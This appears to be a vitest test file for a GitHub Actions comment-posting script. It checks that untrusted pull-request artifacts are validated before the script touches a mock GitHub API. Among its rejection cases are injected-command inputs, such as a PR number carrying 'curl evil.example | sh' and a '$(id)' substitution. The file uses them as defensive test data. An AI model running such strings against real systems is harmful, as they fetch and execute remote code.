// The script that posts the comment in spec-diff-comment.yml, run as actions/github-script runs
// it, against a node:http server answering the four GitHub REST routes it calls. Its input, the
// artifact, was written by the pull request's code: a bad pull-request number, an oversized or
// foreign body, or a pull request that has moved on must post nothing; a good one posts once,
// then updates its own comment and no one else's.
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { createRequire } from "node:module";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { readFile } from "node:fs/promises";
import { parse } from "yaml";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { REPO_ROOT } from "../helpers/cli.js";
import { type RecordedRequest, startServer, type TestServer } from "../helpers/server.js";

interface Comment {
  id: number;
  body: string;
  user: { login: string };
}

const BOT = "github-actions[bot]";
const HEAD = "4f3c2b1a4f3c2b1a4f3c2b1a4f3c2b1a4f3c2b1a";
const MARKER = "<!-- spec-diff -->";

const workflow = parse(await readFile(join(REPO_ROOT, ".github/workflows/spec-diff-comment.yml"), "utf8")) as {
  jobs: { comment: { steps: { with?: { script?: string } }[] } };
};
const SCRIPT = workflow.jobs.comment.steps.map((step) => step.with?.script ?? "").find((script) => script.includes("createComment")) ?? "";

/** What GitHub holds for the test's repository: pull request 7 at HEAD, and its comments. */
interface GitHubState {
  comments: Comment[];
  nextId: number;
}

function gitHub(state: GitHubState) {
  return (request: RecordedRequest) => {
    const url = new URL(request.url, "http://localhost");
    if (request.method === "GET" && url.pathname === "/repos/acme/api/pulls/7") return { status: 200, body: { number: 7, head: { sha: HEAD } } };
    if (request.method === "GET" && url.pathname === "/repos/acme/api/issues/7/comments") {
      const page = Number(url.searchParams.get("page") ?? 1);
      return { status: 200, body: state.comments.slice((page - 1) * 100, page * 100) };
    }
    if (request.method === "POST" && url.pathname === "/repos/acme/api/issues/7/comments") {
      const comment = { id: state.nextId++, body: (JSON.parse(request.body) as { body: string }).body, user: { login: BOT } };
      state.comments.push(comment);
      return { status: 201, body: comment };
    }
    const update = /^\/repos\/acme\/api\/issues\/comments\/(\d+)$/.exec(url.pathname);
    const comment = state.comments.find((candidate) => candidate.id === Number(update?.[1]));
    if (request.method === "PATCH" && comment !== undefined) {
      comment.body = (JSON.parse(request.body) as { body: string }).body;
      return { status: 200, body: comment };
    }
    return { status: 404, body: { message: "Not Found" } };
  };
}

type Params = Record<string, string | number>;
type Call = (params: Params) => Promise<{ data: unknown }>;

/**
 * The part of Octokit (github-script's `github`) the script calls, as plain HTTP requests to
 * `base`, with Octokit's paginate: pages of 100 until a shorter one.
 */
function githubClient(base: string) {
  const call = async (method: string, path: string, body?: object) => {
    const response = await fetch(`${base}${path}`, { method, headers: { "content-type": "application/json" }, body: body && JSON.stringify(body) });
    if (!response.ok) throw new Error(`${method} ${path}: HTTP ${response.status}`);
    return { data: (await response.json()) as unknown };
  };
  const route = (params: Params) => `/repos/${params.owner}/${params.repo}`;
  const rest: Record<string, Record<string, Call>> = {
    pulls: { get: (params) => call("GET", `${route(params)}/pulls/${params.pull_number}`) },
    issues: {
      listComments: (params) => call("GET", `${route(params)}/issues/${params.issue_number}/comments?per_page=100&page=${params.page ?? 1}`),
      createComment: (params) => call("POST", `${route(params)}/issues/${params.issue_number}/comments`, { body: params.body }),
      updateComment: (params) => call("PATCH", `${route(params)}/issues/comments/${params.comment_id}`, { body: params.body }),
    },
  };
  const paginate = async (method: Call, params: Params) => {
    const all: unknown[] = [];
    for (let page = 1; ; page++) {
      const { data } = await method({ ...params, page });
      all.push(...(data as unknown[]));
      if ((data as unknown[]).length < 100) return all;
    }
  };
  return { rest, paginate };
}

const AsyncFunction = Object.getPrototypeOf(async () => undefined).constructor as new (...parameters: string[]) => (...args: unknown[]) => Promise<void>;

let server: TestServer;
let state: GitHubState;
let artifact: string;
let notices: string[];

beforeEach(async () => {
  state = { comments: [], nextId: 1 };
  server = await startServer(gitHub(state));
  artifact = await mkdtemp(join(tmpdir(), "spec-diff-artifact-"));
  notices = [];
});
afterEach(async () => {
  await server.close();
  await rm(artifact, { recursive: true, force: true });
});

/** Writes the artifact's files and runs the script as github-script would for a run of `headSha`. */
async function post(files: { "pr-number": string; "comment.md": string }, headSha = HEAD): Promise<void> {
  await Promise.all(Object.entries(files).map(([name, text]) => writeFile(join(artifact, name), text)));
  const context = { repo: { owner: "acme", repo: "api" }, payload: { workflow_run: { id: 99, head_sha: headSha } } };
  const core = { notice: (message: string) => notices.push(message) };
  const script = new AsyncFunction("require", "github", "context", "core", "process", SCRIPT);
  await script(createRequire(import.meta.url), githubClient(server.url), context, core, { env: { REPORT_DIR: artifact } });
}

const body = (text: string) => `${MARKER}\n**API changes:** ${text}\n`;
const writes = () => server.requests.filter((request) => request.method !== "GET");

describe("the comment step of spec-diff-comment.yml", () => {
  it("posts the body once, then updates its own comment, not a person's that quotes the marker", async () => {
    expect(SCRIPT).toContain("createComment");
    state.comments.push(...Array.from({ length: 120 }, (_, index) => ({ id: 1000 + index, body: `${MARKER} quoted by a person`, user: { login: "someone" } })));
    await post({ "pr-number": "7\n", "comment.md": body("1 breaking") });
    await post({ "pr-number": "7\n", "comment.md": body("0 breaking") });
    const mine = state.comments.filter((comment) => comment.user.login === BOT);
    expect(mine).toEqual([{ id: 1, body: body("0 breaking"), user: { login: BOT } }]);
    expect(writes().map((request) => `${request.method} ${request.url}`)).toEqual([
      "POST /repos/acme/api/issues/7/comments",
      "PATCH /repos/acme/api/issues/comments/1",
    ]);
    expect(state.comments.filter((comment) => comment.user.login === "someone").every((comment) => comment.body === `${MARKER} quoted by a person`)).toBe(true);
  });

  it.each([
    ["a command", "7; curl evil.example | sh"],
    ["a command substitution", "7$(id)"],
    ["zero", "0"],
    ["a negative number", "-7"],
    ["a fraction", "7.5"],
    ["nothing", ""],
  ])("refuses a pull-request number that is %s, before any request", async (_, number) => {
    await expect(post({ "pr-number": number, "comment.md": body("1 breaking") })).rejects.toThrow(/pr-number is not a pull-request number/);
    expect(server.requests).toEqual([]);
  });

  it("refuses an oversized file before reading it, and a body over 65,536 characters", async () => {
    await expect(post({ "pr-number": "7".repeat(40), "comment.md": body("x") })).rejects.toThrow(/pr-number is 40 bytes, more than the 32/);
    await expect(post({ "pr-number": "7", "comment.md": body("x".repeat(65_536)) })).rejects.toThrow(
      /comment\.md is 655\d\d characters, more than a comment takes \(65536\)/,
    );
    await expect(post({ "pr-number": "7", "comment.md": body("é".repeat(140_000)) })).rejects.toThrow(/comment\.md is \d+ bytes, more than the 262144/);
    expect(server.requests).toEqual([]);
  });

  it("refuses a body without the marker: it would not be found again, and is not the report", async () => {
    await expect(post({ "pr-number": "7", "comment.md": "Hello @everyone\n" })).rejects.toThrow(/does not start with the <!-- spec-diff --> line/);
    expect(server.requests).toEqual([]);
  });

  it("posts nothing when the pull request has moved on from the commit the run diffed", async () => {
    await post({ "pr-number": "7", "comment.md": body("1 breaking") }, "0".repeat(40));
    expect(writes()).toEqual([]);
    expect(notices).toEqual([expect.stringMatching(/^#7 is at 4f3c2b1a\w+, not 0{40} \(diffed by run 99\): nothing posted\.$/)]);
  });

  it("fails on a number that is no pull request of this repository", async () => {
    await expect(post({ "pr-number": "8", "comment.md": body("1 breaking") })).rejects.toThrow(/GET \/repos\/acme\/api\/pulls\/8: HTTP 404/);
    expect(writes()).toEqual([]);
  });
});
